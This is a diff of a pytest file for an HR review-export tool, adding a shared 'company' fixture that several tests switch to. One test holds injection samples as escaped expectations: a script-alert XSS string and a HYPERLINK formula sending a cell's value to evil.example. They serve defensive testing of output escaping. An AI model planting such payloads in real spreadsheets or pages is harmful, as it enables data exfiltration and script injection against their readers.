@@ -73,6 +73,15 @@ def reviewed(_reviewed_template: Path, tmp_path: Path, monkeypatch) -> Path:
     return tmp_path / "talent.duckdb"
 
 
+@pytest.fixture(scope="module")
+def company(_reviewed_template: Path) -> export.Export:
+    """The whole company's export of the closed mid-year cycle, made once: build_export only reads."""
+    with pytest.MonkeyPatch.context() as monkeypatch:
+        monkeypatch.setenv("TALENT_DB", str(_reviewed_template / "talent.duckdb"))
+        monkeypatch.setenv("TALENT_WORKSPACE", str(_reviewed_template / "workspace.duckdb"))
+        return export.build_export(_reviewed_template / "talent.duckdb", MID)
+
+
 def _build_reviewed(tmp_path: Path, monkeypatch) -> Path:
     db = small_org(tmp_path, monkeypatch, FILES, (HEAD_SALES, HEAD_RD))
     for employee_id, department in (("S1", "Sales"), ("S2", "Sales"), ("R1", "R&D"), ("O1", "Ops/East [B]")):
@@ -170,8 +179,8 @@ PEOPLE_HEADERS = ["Employee ID", "Name", "Reviewer", "Plan completion", "Plan it
                   "Gaps", "Comment", "Dispute"]
 
 
-def test_workbook_has_the_summary_and_one_sheet_per_department(reviewed: Path) -> None:
-    result = export.build_export(reviewed, MID)
+def test_workbook_has_the_summary_and_one_sheet_per_department(company: export.Export) -> None:
+    result = company
     book = sheets(result.xlsx)
     # "Ops/East [B]" cannot name a worksheet ([]:*?/\ are not allowed): its characters become "_".
     assert list(book) == ["Summary", "Ops_East _B_", "R&D", "Sales", "About"]
@@ -205,8 +214,8 @@ def test_workbook_has_the_summary_and_one_sheet_per_department(reviewed: Path) -
         MID, "Mid-year review", "2026-07-01", "2026-07-31", "All departments")
 
 
-def test_workbook_is_formatted_as_hr_expects(reviewed: Path) -> None:
-    content = export.build_export(reviewed, MID).xlsx
+def test_workbook_is_formatted_as_hr_expects(company: export.Export) -> None:
+    content = company.xlsx
     xml, tables = sheet_xml(content), table_xml(content)
     for name, last in (("Summary", "U5"), ("Sales", "W3"), ("R&D", "W2"), ("About", "B14")):
         assert '<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>' in xml[name], name  # frozen header
@@ -220,8 +229,8 @@ def test_workbook_is_formatted_as_hr_expects(reviewed: Path) -> None:
     assert comment_width > float(re.search(r'<col min="1" max="1" width="([0-9.]+)"', xml["Sales"]).group(1))
 
 
-def test_formula_injection_comes_out_inert(reviewed: Path) -> None:
-    content = export.build_export(reviewed, MID).xlsx
+def test_formula_injection_comes_out_inert(company: export.Export) -> None:
+    content = company.xlsx
     # No cell is a formula: every worksheet has text cells only where text was written.
     assert all("<f>" not in x and "<f " not in x for x in sheet_xml(content).values())
     sales = sheets(content)["Sales"]
@@ -230,13 +239,13 @@ def test_formula_injection_comes_out_inert(reviewed: Path) -> None:
     assert sales.filter(pl.col("Employee ID") == "S1").select("Strengths", "Gaps", "Comment").row(0) == (
         "'+results above target", "'-strategy", "'@SUM(A1:A9)")
     # The report escapes user text instead: no markup or script from a comment or a name reaches the page.
-    report = export.build_export(reviewed, MID).html
+    report = company.html
     assert "<script>alert(" not in report
     assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in report
     assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Sue&quot;)" in report
 
 
-def test_department_scoped_export_holds_no_other_department(reviewed: Path) -> None:
+def test_department_scoped_export_holds_no_other_department(reviewed: Path, company: export.Export) -> None:
     others = ("R1", "Ray One", "R&amp;D", "head.rd", "O1", "Olga", "Ops/East", "Ops_East")
     for result in (export.build_export(reviewed, MID, department="Sales"), export.build_export(reviewed, MID, scope=("Sales",))):
         book = sheets(result.xlsx)
@@ -248,7 +257,7 @@ def test_department_scoped_export_holds_no_other_department(reviewed: Path) -> N
         assert "Sam One" in page and not [o for o in others if o in page]
         assert "Sales" in chart_data(result.html) and not [o for o in ("R&amp;D", "Ops") if o in chart_data(result.html)]  # ... and its charts
         assert result.names == {"xlsx": "review-summary-2026-mid_year-Sales.xlsx", "html": "review-summary-2026-mid_year-Sales.html"}
-    assert "R&amp;D" in chart_data(export.build_export(reviewed, MID).html)  # (where the whole company's export has them)
+    assert "R&amp;D" in chart_data(company.html)  # (where the whole company's export has them)
     # A head cannot widen their scope with --department.
     with pytest.raises(export.ExportError, match="department 'R&D' is outside what you may see"):
         export.build_export(reviewed, MID, scope=("Sales",), department="R&D")
@@ -307,8 +316,8 @@ def test_trends_page_offers_the_closed_cycles_for_download_and_audits_each_downl
     st.cache_resource.clear()
 
 
-def test_report_is_self_contained_and_printable(reviewed: Path) -> None:
-    report = export.build_export(reviewed, MID).html
+def test_report_is_self_contained_and_printable(company: export.Export) -> None:
+    report = company.html
     assert report.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in report
     assert "<script src" not in report and "<link" not in report  # nothing to fetch: works offline
     assert len(re.findall(r"plotly\.js v\d", report)) == 1  # plotly.js inlined once
